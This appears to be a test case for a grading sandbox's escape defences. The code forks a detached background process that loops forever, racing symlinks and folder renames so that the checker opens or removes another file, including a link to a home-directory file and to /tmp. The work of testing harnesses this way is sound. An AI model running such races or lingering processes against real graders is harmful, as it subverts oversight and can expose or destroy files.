"""Goal: links and folders that change places, so that whoever checks a file opens another one.

Expected: nothing outside is read or removed; the next submission is graded.
"""
# group: escape
import os
os.makedirs("checkpoints", exist_ok=True)
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            os.symlink("@HOME@/red-team.txt", "mallory-link")
            os.rename("mallory-link", "checkpoints/q3.safetensors")
            os.mkdir("mallory-folder")
            os.rename("mallory-folder", "mallory-other")
            os.symlink("/tmp", "mallory-folder")
            os.rename("mallory-folder", "mallory-third")
            os.rmdir("mallory-other")
        except OSError:
            pass
